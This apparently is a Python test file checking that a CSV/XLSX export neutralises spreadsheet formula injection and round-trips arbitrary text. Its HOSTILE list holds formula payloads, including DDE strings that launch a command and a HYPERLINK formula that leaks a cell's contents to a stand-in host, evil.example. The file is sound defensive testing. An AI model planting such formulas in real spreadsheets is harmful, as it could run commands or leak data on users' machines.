"""No heading and no cell is calculated by whoever opens a table, and what it says is read again as it was."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from gateway.exports.cells import headings, values
from kit.sheets.cells import is_formula
from kit.sheets.reading import lines_of, text_of
from kit.sheets.workbook import Xlsx
from kit.sheets.writing import MARK, csv_lines

HOSTILE = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u200b=1+1",
    "\u3000＝1+1",
    "=cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "'=1+1",
    "''=1+1",
    "'quoted'",
    '","=1+1',
    '"=1+1',
    "a;=1+1;b;c",
    "a\t=1+1\tb",
    "a，=1+1，b，c",
    "a\r\n=1+1",
    "_x003D_1+1",
    "_x000D_",
    "0034",
    "1E5",
]


def through_csv(head: list[str], *rows: list[str]) -> list[list[str]]:
    """What our own reader finds in the file."""
    data = MARK.encode() + csv_lines([head]) + csv_lines(rows)
    return [cells for _, cells in lines_of(text_of(data), len(rows) + 1)]


def through_xlsx(head: list[str], *rows: list[str]) -> list[list[str]]:
    """What a reader finds that knows what XLSX escapes."""
    book = Xlsx("成绩", head)
    book.add(rows)
    with book.close() as file:
        sheet = load_workbook(io.BytesIO(file.read())).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {(cell.data_type, cell.number_format, cell.quotePrefix) for cell in cells} == {("s", "@", True)}
    return [[unescape(str(value)) for value in row] for row in sheet.values]


@pytest.mark.parametrize("through", [through_csv, through_xlsx])
def test_hostile_texts_come_back_as_they_were_as_headings_and_as_cells(through: object) -> None:
    assert through(HOSTILE, HOSTILE, HOSTILE[::-1]) == [HOSTILE, HOSTILE, HOSTILE[::-1]]  # type: ignore[operator]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_line_of_a_csv_file_begins_a_formula_for_whoever_reads_it_plainly(text: str) -> None:
    columns = [{"zh": text, "en": text, "kind": "text"}]

    file = csv_lines([headings(columns, "en"), values([text], columns, "en")]).decode()

    plain = [cell for row in csv.reader(io.StringIO(file, newline="")) for cell in row]
    assert len(plain) == 2
    assert not [cell for cell in plain if is_formula(cell) and not cell.startswith("'")]


def test_numbers_and_times_are_what_they_are_and_have_no_mark() -> None:
    nine = datetime(2026, 5, 1, 9, 0)  # noqa: DTZ001 - a sheet knows no zones

    assert csv_lines([[Decimal("-87.50"), nine, None]]) == b'-87.50,"2026-05-01 09:00:00",""\r\n'


@pytest.mark.parametrize("line", ["a;b\n", "a\tb\n", "a，b\n", "a,b\n", '"x,y,z";b\n', '"x\ny";b\n'])
def test_the_delimiter_of_others_is_found_outside_of_quotes(line: str) -> None:
    [(_, cells)] = lines_of(line, 1)

    assert len(cells) == 2


@settings(max_examples=150)
@example(["\ud800", "\x00", "\ufffe"])
@example(["\n"])
@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_any_text_comes_back_but_for_what_no_file_can_hold(texts: list[str]) -> None:
    head = [f"heading {number}" for number in range(len(texts))]

    [_, *found] = through_csv(head, texts)

    expected = ["".join("\ufffd" if _is_held_by_no_file(letter) else letter for letter in text) for text in texts]
    assert found == ([expected] if any(text.strip() for text in expected) else [])


def _is_held_by_no_file(letter: str) -> bool:
    held = letter in "\t\n\r" or letter >= " "
    return not held or letter == "\x7f" or "\ud800" <= letter <= "\udfff" or letter in "\ufffe\uffff"
